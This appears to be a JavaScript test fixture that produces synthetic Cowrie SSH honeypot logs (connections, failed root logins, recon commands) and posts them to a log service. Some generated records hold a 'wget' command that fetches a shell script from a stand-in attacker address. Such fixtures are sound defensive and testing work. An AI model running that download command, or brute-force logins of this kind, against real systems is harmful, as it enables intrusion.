import { KEY } from './server-process.mjs'

// Synthetic attackers with the shape of real ones: short sessions, many from few addresses, mostly logins.
const START = Date.now() - 3_600_000

/** The address of a session; without a number of addresses, one of 2,048. */
function addressOf(session, addresses) {
  if (addresses === undefined) return `10.${(session * 7) % 16}.${(session * 13) % 128}.1`
  // Half of the sessions are of a hundredth of the addresses, as attackers are.
  const of = session % 2 === 0 ? addresses : Math.ceil(addresses / 100)
  const n = (session * 2_654_435_761) % of
  return `11.${n >> 16}.${(n >> 8) & 255}.${n & 255}`
}

/**
 * The n-th Cowrie record of an endless log; ten make a session. Every n gives another event.
 * @param addresses how many there are in all.
 */
export function record(n, addresses) {
  const session = Math.floor(n / 10)
  const step = n % 10
  const ip = addressOf(session, addresses)
  const timestamp = new Date(START + (n % 3_600_000))
    .toISOString()
    .replace('Z', `${String(n % 1000).padStart(3, '0')}Z`)
  const common = `"src_ip":"${ip}","session":"${session.toString(16).padStart(12, '0')}","protocol":"ssh","sensor":"cowrie-${session % 4}","uuid":"ab515fcc-214f-11f1-9144-d5b29c7380fc","timestamp":"${timestamp}"`
  if (step === 0) {
    return `{"eventid":"cowrie.session.connect","src_port":${20_000 + (n % 40_000)},"dst_ip":"192.0.2.1","dst_port":22,"message":"New connection: ${ip} [session: ${session}]",${common}}`
  }
  // A session in a hundred fetches something.
  if (step === 8 && session % 100 === 0)
    return `{"eventid":"cowrie.command.input","input":"wget http://198.51.100.7/${session % 50}.sh","message":"CMD: wget http://198.51.100.7/${session % 50}.sh",${common}}`
  if (step === 7)
    return `{"eventid":"cowrie.command.input","input":"uname -s -v -n -r -m","message":"CMD: uname -s -v -n -r -m",${common}}`
  if (step === 9)
    return `{"eventid":"cowrie.session.closed","duration":"9.8","message":"Connection lost after 9.8 seconds",${common}}`
  return `{"eventid":"cowrie.login.failed","username":"root","password":"password${n % 997}","message":"login attempt [root/password${n % 997}] failed",${common}}`
}

/** `count` records from the n-th on, as NDJSON. */
export function lines(n, count, addresses) {
  let text = ''
  for (let at = n; at < n + count; at += 1) text += `${record(at, addresses)}\n`
  return text
}

/** Sends events of our own spelling. @throws {Error} unless they were taken. */
export async function post(url, events) {
  const response = await fetch(`${url}/log`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${KEY}` },
    body: JSON.stringify(events),
  })
  if (!response.ok) throw new Error(`POST /log answered ${response.status}`)
}
